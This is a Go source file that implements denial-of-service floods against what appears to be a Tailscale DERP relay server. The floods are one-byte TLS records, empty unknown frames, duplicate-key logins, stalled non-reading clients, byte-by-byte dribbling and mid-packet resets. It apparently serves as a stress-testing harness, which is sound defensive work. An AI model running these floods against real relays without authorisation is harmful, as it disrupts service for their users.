package main

import (
	"bytes"
	"time"

	"tailscale.com/types/key"
)

const (
	frameAttackers = 4
	// duplicateBytes is what each duplicate sends at a time.
	duplicateBytes = 4 << 10
	stalledReaders = 50
	stalledPacket  = 1 << 10
	dribblers      = 200
	// dribbledPerSec is the number of bytes of all dribblers together.
	dribbledPerSec = 20_000
	resetsPerSec   = 300
)

// gathered joins writes, so that many TLS records leave with one call.
type gathered struct {
	counted
	pending bytes.Buffer
	// isOpen is set once the handshake is over: its steps must leave.
	isOpen bool
}

func (g *gathered) Write(bytes []byte) (int, error) {
	if !g.isOpen {
		return g.counted.Write(bytes)
	}
	g.pending.Write(bytes)
	if g.pending.Len() < floodBytes {
		return len(bytes), nil
	}
	_, err := g.pending.WriteTo(g.counted)
	return len(bytes), err
}

// tinyRecords sends TLS records of one byte, as a client.
func tinyRecords(f *flooder) (func(), error) {
	if err := f.learnKey(); err != nil {
		return nil, err
	}
	infos := f.infos(frameAttackers)
	attack := func(at int) error {
		below, err := f.openTCP()
		if err != nil {
			return err
		}
		carrier := &gathered{counted: counted{below.tcp, f}}
		a, err := f.startTLS(below, carrier)
		if err != nil {
			return err
		}
		defer f.drop(a)
		if err := f.login(a, upgradeHead, infos[at]); err != nil {
			return err
		}
		carrier.isOpen = true
		a.ignore()
		return f.repeat(a, []byte{0})
	}
	return func() {
		for at := range frameAttackers {
			f.each(1, func() error { return attack(at) })
		}
	}, nil
}

// emptyFrames sends frames of no length and of an unknown type.
func emptyFrames(f *flooder) (func(), error) {
	if err := f.learnKey(); err != nil {
		return nil, err
	}
	infos := f.infos(frameAttackers)
	zeros := make([]byte, floodBytes)
	return func() {
		for _, info := range infos {
			f.each(1, func() error {
				a, err := f.enter(upgradeHead, info)
				if err != nil {
					return err
				}
				defer f.drop(a)
				a.ignore()
				return f.repeat(a, zeros)
			})
		}
	}, nil
}

// duplicates logs one key in many times; then all send such frames.
func duplicates(f *flooder) (func(), error) {
	conns, err := f.enterMany(f.clients, func(info []byte) []byte { return info })
	zeros := make([]byte, duplicateBytes)
	return func() {
		for _, a := range conns {
			go f.repeat(a, zeros)
		}
	}, err
}

// enterMany logs in clients: of one key, if the ClientInfo stays the same.
func (f *flooder) enterMany(count int, next func([]byte) []byte) ([]*attacker, error) {
	if err := f.learnKey(); err != nil {
		return nil, err
	}
	info := f.newInfo()
	conns := make([]*attacker, count)
	return conns, together(count, stormWorkers, func(at int) error {
		a, err := f.enter(upgradeHead, next(info))
		conns[at] = a
		return err
	})
}

func (f *flooder) enterOthers(count int) ([]*attacker, error) {
	return f.enterMany(count, func([]byte) []byte { return f.newInfo() })
}

// zeroWindows has clients that never read, and others that send to them.
func zeroWindows(f *flooder) (func(), error) {
	if err := f.learnKey(); err != nil {
		return nil, err
	}
	var packets bytes.Buffer
	for range stalledReaders {
		client := key.NewNode()
		a, err := f.enter(upgradeHead, f.plainInfo(client, ""))
		if err != nil {
			return nil, err
		}
		a.tcp.SetReadBuffer(4 << 10)
		packets.Write(frame(frameSendPacket, client.Public().AppendTo(nil), make([]byte, stalledPacket)))
	}
	senders, err := f.enterOthers(frameAttackers)
	return func() {
		for _, a := range senders {
			a.ignore()
			go f.repeat(a, packets.Bytes())
		}
	}, err
}

// dribble sends packets to nobody byte by byte, each in a segment.
func dribble(f *flooder) (func(), error) {
	conns, err := f.enterOthers(dribblers)
	packet := frame(frameSendPacket, key.NewNode().Public().AppendTo(nil), make([]byte, 16))
	return func() {
		interval := time.Duration(float64(time.Second) * dribblers / dribbledPerSec)
		for _, a := range conns {
			go func() {
				for at := 0; a.write(packet[at%len(packet):][:1]) == nil && !f.over.Load(); at++ {
					time.Sleep(interval)
				}
			}()
		}
	}, err
}

// resets logs in, sends half a packet, and resets the connection.
func resets(f *flooder) (func(), error) {
	if err := f.learnKey(); err != nil {
		return nil, err
	}
	info := f.newInfo()
	packet := frame(frameSendPacket, key.NewNode().Public().AppendTo(nil), make([]byte, stalledPacket))
	return func() {
		f.eachPaced(stormWorkers, resetsPerSec, func() error {
			a, err := f.enter(upgradeHead, info)
			if err != nil {
				return err
			}
			err = a.write(packet[:len(packet)/2])
			f.drop(a)
			return err
		})
	}, nil
}
